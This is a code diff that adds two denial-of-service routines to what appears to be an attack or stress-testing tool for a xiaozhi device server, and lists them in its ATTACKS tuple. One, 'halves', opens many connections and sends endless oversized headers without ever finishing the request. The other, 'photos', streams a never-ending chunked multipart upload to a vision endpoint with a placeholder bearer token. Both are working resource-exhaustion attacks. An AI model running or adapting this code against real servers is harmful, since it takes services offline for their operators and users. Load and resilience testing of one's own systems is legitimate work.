@@ -151,6 +151,33 @@ class Peer:
 
         await self._again_and_again(32, act)
 
+    async def halves(self) -> None:
+        """Send as many headers as are taken, on as many connections as there are, and never the last one."""
+
+        async def act(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+            writer.write(b"GET /xiaozhi/ota/ HTTP/1.1\r\n")
+            for number in range(60):
+                writer.write(b"X-%d: %s\r\n" % (number, b"a" * 8000))
+                await writer.drain()
+            await reader.read(4096)
+
+        await self._again_and_again(AT_ONCE, act)
+
+    async def photos(self) -> None:
+        """Send photos that never end, without leave to send any."""
+
+        async def act(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+            writer.write(
+                b"POST /mcp/vision/explain HTTP/1.1\r\nHost: a\r\nDevice-Id: 02:66:1\r\nAuthorization: Bearer a\r\n"
+                b"Content-Type: multipart/form-data; boundary=a\r\nTransfer-Encoding: chunked\r\n\r\n"
+            )
+            piece = b'--a\r\nContent-Disposition: form-data; name="file"\r\n\r\n' + bytes(60_000) + b"\r\n"
+            while not writer.is_closing():
+                writer.write(b"%x\r\n%s\r\n" % (len(piece), piece))
+                await writer.drain()
+
+        await self._again_and_again(64, act)
+
     async def check_ins(self) -> None:
         """Check in as ever new devices."""
 
@@ -212,6 +239,8 @@ ATTACKS = (
     "huge",
     "broken",
     "headers",
+    "halves",
+    "photos",
     "check_ins",
     "bodies",
     "datagrams",
